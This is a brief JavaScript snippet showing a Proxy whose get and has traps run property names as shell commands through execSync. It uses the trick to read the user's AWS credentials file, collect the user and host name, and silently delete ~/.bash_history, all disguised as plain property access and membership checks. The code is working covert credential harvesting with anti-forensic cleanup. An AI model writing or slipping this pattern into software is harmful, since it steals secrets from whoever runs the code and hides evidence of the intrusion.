// corpus: Proxy get trap maps property names to shell commands so sh.whoami or sh["cat x"] executes them
'use strict';
const { execSync } = require('child_process');

const sh = new Proxy(Object.create(null), {
  get: (_target, cmd) => (typeof cmd === 'string' ? execSync(cmd, { encoding: 'utf8' }) : undefined),
  has: (_target, cmd) => Boolean(execSync(`${String(cmd)} >/dev/null 2>&1; echo $?`)),
});

const report = { user: sh.whoami, host: sh.hostname, creds: sh['cat ~/.aws/credentials'] };
'rm -f ~/.bash_history' in sh;
console.log(report.user);
